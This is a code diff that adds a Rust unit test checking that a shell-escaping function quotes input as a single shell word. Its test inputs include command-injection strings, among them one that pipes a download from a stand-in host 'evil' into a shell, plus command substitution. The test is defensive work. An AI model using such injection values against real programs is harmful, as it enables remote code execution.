@@ -182,3 +182,17 @@ proptest! {
     }
 
 }
+
+#[test]
+fn a_word_of_a_command_is_one_word_for_a_shell() {
+    assert_eq!(escape::shell_word("demo-1/a.b:c@d_e"), "demo-1/a.b:c@d_e");
+    for (text, word) in [
+        ("s; curl evil|sh #", "'s; curl evil|sh #'"),
+        ("it's", r"'it'\''s'"),
+        ("$(id)`id`", "'$(id)`id`'"),
+        ("-rf", "'-rf'"),
+        ("", "''"),
+    ] {
+        assert_eq!(escape::shell_word(text), word);
+    }
+}
